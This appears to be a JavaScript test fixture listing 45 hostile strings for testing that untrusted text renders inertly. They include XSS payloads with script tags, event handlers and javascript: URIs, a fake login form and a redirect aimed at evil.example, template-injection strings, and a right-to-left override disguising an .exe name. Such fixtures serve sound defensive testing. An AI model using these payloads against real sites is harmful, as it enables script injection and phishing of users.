// 45 hostile texts. Each would set `window.taken`, load something, or look like something else, if it became more than text.

const RUN = "window.taken=(window.taken||0)+1";
const AWAY = "https://evil.example/x";

export const TEXTS = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><circle r=9></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.taken=1</script>"></iframe>`,
  `<a href="javascript:${RUN}">click me</a>`,
  `<body onload="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}">`,
  `<style>@import url(${AWAY}.css);body{display:none}</style>`,
  `<link rel=stylesheet href=${AWAY}.css>`,
  `<base href="${AWAY}/">`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<form action="${AWAY}"><button>Log in again</button></form>`,
  `<object data="${AWAY}"></object><embed src="${AWAY}">`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<template><script>${RUN}</script></template>`,
  `"><script>${RUN}</script>`,
  `' onmouseover='${RUN}' x='`,
  "`-${window.taken=1}-`",
  "{{constructor.constructor('window.taken=1')()}}",
  "${window.taken=1} #{window.taken=1} <%= window.taken=1 %>",
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `![x](${AWAY}.png) [y](javascript:${RUN})`,
  `<!-- --><![CDATA[<script>${RUN}</script>]]>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  "\\u003cscript\\u003ewindow.taken=1\\u003c/script\\u003e",
  "%3Cscript%3Ewindow.taken%3D1%3C%2Fscript%3E",
  "\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007",
  "user\u202egnp.exe\u202c and \u2066isolated\u2069",
  "\u200bzero\u200b width\ufeff and \u{e0041}\u{e0042} tags",
  "line\u2028separator\u2029paragraph\r\ncarriage\rreturn",
  "مرحبا بالعالم שלום עולם",
  `${"W".repeat(4000)}`,
  `${"\u0301".repeat(300)}zalgo`,
  "null", "undefined", "NaN", "__proto__", "constructor", "[object Object]", "",
];

if (TEXTS.length !== 45) throw new Error(`${TEXTS.length} texts`);
